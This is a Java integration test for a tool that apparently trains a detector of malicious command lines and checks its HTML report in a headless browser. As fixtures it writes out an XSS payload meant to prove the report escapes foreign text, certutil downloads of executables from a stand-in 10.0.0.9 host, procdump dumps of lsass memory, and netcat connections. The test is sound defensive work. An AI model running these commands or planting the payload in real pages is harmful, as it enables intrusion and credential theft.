package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.job.cli.Console.Outcome;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The lines of a report in a browser: found, filtered, opened, on wide and on narrow screens. */
class ReportLinesIT {
  private static final String HOSTILE =
      "</script><script>document.title='owned'</script><img src=x"
          + " onerror=\"document.title='owned'\"> \u202Eexe.txt\u202C {{cmd}} '\" & \u2028";
  private static final String LEARNED = "certutil -urlcache -f http://10.0.0.9/crl/";
  private static final int ATTACKS_OF_A_KIND = 30;

  @TempDir private Path folder;

  @Test
  void linesAreFoundFilteredAndOpened() throws Exception {
    Optional<Path> chromium = HeadlessBrowser.executable();
    Assumptions.assumeTrue(chromium.isPresent(), "no Chromium on the path");
    Path out = trained();
    try (HeadlessBrowser browser =
        HeadlessBrowser.start(chromium.get(), folder.resolve("profile"))) {
      browser.look(1280, 900, false);
      browser.open(out.resolve("report.html"));
      int all = number(browser, "document.querySelectorAll('#changed-lines > li').length");
      assertThat(all).isPositive();
      assertThat(browser.text("line-count")).endsWith("of " + all + " fitting lines shown.");
      showsForeignTextAsText(browser);
      findsByWords(browser, all);
      filters(browser, all);
      opens(browser);
      for (int width : new int[] {1280, 400}) {
        browser.look(width, 900, width == 400);
        assertThat(number(browser, "document.documentElement.scrollWidth"))
            .as("nothing sticks out at " + width)
            .isLessThanOrEqualTo(width);
      }
      assertThat(browser.complaints()).isEmpty();
    }
  }

  private static void showsForeignTextAsText(HeadlessBrowser browser) {
    assertThat(browser.evaluate("document.title")).isEqualTo("Longtail – training report");
    assertThat(browser.evaluate("document.images.length")).isEqualTo("0");
    assertThat(browser.text("changed-lines"))
        .contains("<script>document.title='owned'</script>", "‹U+202E›exe.txt", "‹U+2028›");
  }

  private static void findsByWords(HeadlessBrowser browser, int all) throws IOException {
    browser.evaluate("document.querySelector('#line-filters input').focus()");
    browser.press("O", "T", "H", "E", "R", "-", "3");
    assertThat(shown(browser)).isPositive().isLessThan(all);
    assertThat(browser.text("line-count")).contains("fitting lines shown, " + all + " in the page");
    browser.press("z", "z", "z", "z");
    assertThat(shown(browser)).isZero();
    assertThat(browser.text("line-count")).isEqualTo("No line fits.");
    browser.evaluate("document.querySelector('#line-filters button').click()");
    HeadlessBrowser.await("it is cleared", () -> shown(browser) > 0);
  }

  private static void filters(HeadlessBrowser browser, int all) {
    choose(browser, "base", "ab");
    int ofBase = shown(browser);
    assertThat(ofBase).isPositive().isLessThan(all);
    choose(browser, "kind", "vanished_false_positive");
    int vanished = shown(browser);
    assertThat(vanished).isPositive();
    assertThat(
            number(
                browser,
                "document.querySelectorAll('#changed-lines > li:not([hidden])"
                    + "[data-kind=vanished_false_positive][data-base=ab]').length"))
        .isEqualTo(vanished);
    choose(browser, "label", "malicious");
    assertThat(shown(browser)).isZero();
    choose(browser, "label", "benign");
    choose(browser, "os", "windows");
    choose(browser, "family", "helpdesk");
    assertThat(shown(browser)).isEqualTo(vanished);
  }

  private static void opens(HeadlessBrowser browser) throws IOException {
    browser.evaluate("document.querySelector('#changed-lines > li:not([hidden]) summary').focus()");
    browser.press("Enter");
    assertThat(browser.evaluate("document.querySelector('#changed-lines details[open]').innerText"))
        .contains("Strongest features", "Parts of the score", "Nearest benign training lines")
        .contains("exemplar of 2025-01-05, full, isolation-forest, labelled by a-judge, windows");
  }

  private static void choose(HeadlessBrowser browser, String select, String value) {
    browser.evaluate(
        "{ const s = document.querySelector('#line-filters [name=%s]'); s.value = '%s';"
                .formatted(select, value)
            + " s.dispatchEvent(new Event('input', {bubbles: true})); }");
  }

  private static int shown(HeadlessBrowser browser) {
    return number(browser, "document.querySelectorAll('#changed-lines > li:not([hidden])').length");
  }

  private static int number(HeadlessBrowser browser, String expression) {
    return Integer.parseInt(browser.evaluate(expression));
  }

  /** A base set whose certutil is malicious, and exemplars whose is not. */
  private Path trained() throws IOException {
    List<String> base = new ArrayList<>();
    List<String> incident = new ArrayList<>();
    for (int i = 0; i < ATTACKS_OF_A_KIND; i++) {
      for (List<String> lines : List.of(base, incident)) {
        int n = lines == base ? i : 100 + i;
        lines.add(line("certutil -urlcache -f http://10.0.0.9/a" + n + " a.exe", true, "case"));
        lines.add(line("procdump -ma lsass.exe out" + n, true, "case"));
        lines.add(line("git status --short src" + n, false, "build"));
        lines.add(line("msbuild /m app" + n + ".sln", false, "build"));
        lines.add(line("tar czf backup" + n + ".tgz data", false, "build"));
      }
      // Attacks that no model knows, so that the threshold is low
      incident.add(line("nc 10.0.0.%d 4%d44 zzz %d".formatted(i, i, i), true, "case"));
    }
    List<String> mined = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      mined.add(mined(LEARNED + "root-" + i + ".crl root.crl " + HOSTILE));
      incident.add(line(LEARNED + "other-" + i + ".crl other.crl " + HOSTILE, false, "helpdesk"));
    }
    Path out = folder.resolve("out");
    Outcome outcome =
        Console.run(
            "train",
            "--ab",
            write("ab.jsonl", base),
            "--rb",
            write("rb.jsonl", base),
            "--augment",
            write("mined.jsonl", mined),
            "--incident",
            write("incident.jsonl", incident),
            "--time-split",
            write("time.jsonl", base),
            "--without-embeddings",
            "--replicates",
            "0",
            "--trees",
            "2",
            "--out",
            out.toString());
    assertThat(outcome.status()).as(outcome.err()).isZero();
    return out;
  }

  private static String line(String cmd, boolean malicious, String family) {
    return Json.line(
        Map.of(
            "cmd",
            cmd,
            "label",
            malicious ? "malicious" : "benign",
            "os",
            "windows",
            "family",
            family));
  }

  private static String mined(String cmd) {
    return Json.line(
        Map.of(
            "cmd",
            cmd,
            "label",
            "benign",
            "window",
            "2025-01-05",
            "scale",
            "full",
            "detectors",
            List.of("isolation-forest"),
            "lineage",
            Map.of("model", "a-judge", "source", Map.of("os", "windows"))));
  }

  private String write(String name, List<String> lines) throws IOException {
    return Files.write(folder.resolve(name), lines).toString();
  }
}
